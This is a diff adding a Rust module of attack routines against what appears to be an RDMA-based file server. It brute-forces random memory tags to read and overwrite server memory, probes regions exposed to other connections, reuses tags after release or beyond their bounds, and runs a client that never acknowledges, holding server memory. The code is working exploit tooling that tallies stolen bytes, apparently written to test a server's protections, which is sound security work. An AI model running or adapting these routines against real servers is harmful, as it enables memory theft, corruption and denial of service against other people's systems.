@@ -1,0 +1,162 @@
+//! Attacks on a server, and what came of them.
+
+use std::{
+    io,
+    net::SocketAddr,
+    time::{Duration, Instant},
+};
+
+use crate::{Event, Files, Peer, Source};
+
+/// What came of trying tags.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct Tries {
+    /// Tags tried. Each that is refused costs a connection.
+    pub tried: u64,
+    /// Tries that were answered with a Terminate or the end of the connection.
+    pub refused: u64,
+    /// Bytes of the server's memory that were read, or written.
+    pub bytes: u64,
+}
+
+impl Tries {
+    fn count(&mut self, bytes: Option<usize>) {
+        self.tried += 1;
+        match bytes {
+            Some(n) => self.bytes += n as u64,
+            None => self.refused += 1,
+        }
+    }
+}
+
+/// A sequence of numbers that looks random (splitmix64).
+fn numbers(seed: u64) -> impl Iterator<Item = u32> {
+    let mut state = seed;
+    std::iter::repeat_with(move || {
+        state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let n = (state ^ (state >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        ((n ^ (n >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB) >> 32) as u32
+    })
+}
+
+/// Reads `count` random tags, each on a connection of its own.
+///
+/// # Errors
+/// When the server cannot be reached, or answers nothing.
+pub fn guess_reads(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> io::Result<Tries> {
+    let mut tries = Tries::default();
+    for tag in numbers(seed).take(usize::try_from(count).unwrap_or(usize::MAX)) {
+        let mut files = Files::new(Peer::connect(addr, private)?);
+        let stolen = files.steal(Source { tag, length: 4096, offset: 0 })?;
+        tries.count(stolen.map(|b| b.len()));
+    }
+    Ok(tries)
+}
+
+/// Writes to `count` random tags, each on a connection of its own.
+///
+/// # Errors
+/// When the server cannot be reached, or answers nothing.
+pub fn guess_writes(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> io::Result<Tries> {
+    let mut tries = Tries::default();
+    for tag in numbers(seed).take(usize::try_from(count).unwrap_or(usize::MAX)) {
+        let mut peer = Peer::connect(addr, private)?;
+        peer.write(tag, 0, &[0x66; 4096])?;
+        // An RDMA Write has no answer; the RDMA Read behind it has one if the Write was let through.
+        let ended = loop {
+            match peer.event()? {
+                Event::Terminate(..) | Event::Closed => break true,
+                _ => {}
+            }
+        };
+        tries.count((!ended).then_some(4096));
+    }
+    Ok(tries)
+}
+
+/// Reads a region that the server has exposed to *another* connection, whose tag the attacker knows exactly, and the
+/// tags next to it.
+///
+/// # Errors
+/// When the server cannot be reached, or answers nothing.
+pub fn read_of_another(addr: SocketAddr, private: &[u8], victim: Source) -> io::Result<Tries> {
+    let mut tries = Tries::default();
+    for change in [0, 1, 0xff, 0x100, 0x200, 0xffff_ff00] {
+        let tag = victim.tag.wrapping_add(change);
+        let mut files = Files::new(Peer::connect(addr, private)?);
+        tries.count(files.steal(Source { tag, ..victim })?.map(|b| b.len()));
+    }
+    Ok(tries)
+}
+
+/// Uses the attacker's own tag again after the server has taken its RDMA_DONE, and beyond its end before.
+///
+/// # Errors
+/// When the server cannot be reached, or answers nothing.
+pub fn reuse(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::Result<Tries> {
+    let mut tries = Tries::default();
+    for beyond in [true, false] {
+        let mut files = Files::new(Peer::connect(addr, private)?);
+        let root = files.mount(export)?;
+        let file = files.lookup(&root, name)?;
+        let Some(mut from) = files.read(&file, 0, 64 << 10)? else {
+            return Err(io::ErrorKind::Unsupported.into());
+        };
+        if beyond {
+            from.length += 1;
+        } else {
+            files.done()?;
+            // The reply to another call says that the server has taken the RDMA_DONE; until then the data may be read.
+            files.lookup(&root, name)?;
+        }
+        tries.count(files.steal(from)?.map(|b| b.len()));
+    }
+    Ok(tries)
+}
+
+/// A client that never acknowledges.
+pub struct Hoard {
+    files: Files,
+    began: Instant,
+    /// READs that the server answered with exposed memory.
+    pub replies: u64,
+    /// Bytes that it exposed.
+    pub bytes: u64,
+    /// The first of the regions.
+    pub first: Source,
+}
+
+/// Reads a file again and again, `count` times, and acknowledges nothing.
+///
+/// # Errors
+/// When the server cannot be reached, or exposes nothing.
+pub fn hoard(addr: SocketAddr, private: &[u8], export: &str, name: &str, count: u32) -> io::Result<Hoard> {
+    let mut files = Files::new(Peer::connect(addr, private)?);
+    let root = files.mount(export)?;
+    let file = files.lookup(&root, name)?;
+    let began = Instant::now();
+    let (mut replies, mut bytes, mut first) = (0, 0, None);
+    for _ in 0..count {
+        if let Some(source) = files.read(&file, 0, 1 << 20)? {
+            replies += 1;
+            bytes += u64::from(source.length);
+            first.get_or_insert(source);
+        }
+    }
+    let first = first.ok_or(io::ErrorKind::Unsupported)?;
+    Ok(Hoard { files, began, replies, bytes, first })
+}
+
+impl Hoard {
+    /// Waits until the server has had enough; gives how long it held the memory.
+    ///
+    /// # Errors
+    /// When it holds it for longer than 20 s.
+    pub fn wait(mut self) -> io::Result<Duration> {
+        loop {
+            if matches!(self.files.peer.event()?, Event::Closed | Event::Terminate(..)) {
+                return Ok(self.began.elapsed());
+            }
+        }
+    }
+}
